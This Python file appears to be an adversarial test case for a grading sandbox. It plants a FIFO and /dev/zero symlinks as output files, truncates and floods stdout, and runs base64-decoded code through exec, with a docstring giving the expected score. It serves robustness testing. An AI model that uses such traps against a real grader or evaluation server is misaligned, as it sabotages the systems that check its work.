"""Threat: turn this run's output into a trap for the fork server, then work honestly. The
server used to read `output.txt` from the run's folder as root, whole, in its one loop: a FIFO
there blocked it forever, a link to /dev/zero made it read until memory ran out, and every
later run of the class scored 0. This one plants both, floods stdout past the file-size
limit, and tries to grow its output file beyond it. Deserves: full marks (it did the work);
the fork server and the rest of the class go on as usual.
"""

import base64
import contextlib
import os
import sys

for folder in (".", "..", os.environ.get("TMPDIR", "/tmp")):
    for name, make in (
        ("output.txt", os.mkfifo),
        ("output.zero", lambda path: os.symlink("/dev/zero", path)),
    ):
        path = os.path.join(folder, name)
        with contextlib.suppress(OSError):
            os.unlink(path)
        with contextlib.suppress(OSError):
            make(path)
with contextlib.suppress(OSError):
    os.symlink("/dev/zero", "output.txt.link")
with contextlib.suppress(OSError):
    os.ftruncate(1, 1 << 40)
try:
    chunk = "z" * (1 << 20)
    for _ in range(24):
        sys.stdout.write(chunk)
    sys.stdout.flush()
except OSError:
    pass

exec(base64.b64decode("__HONEST__").decode())
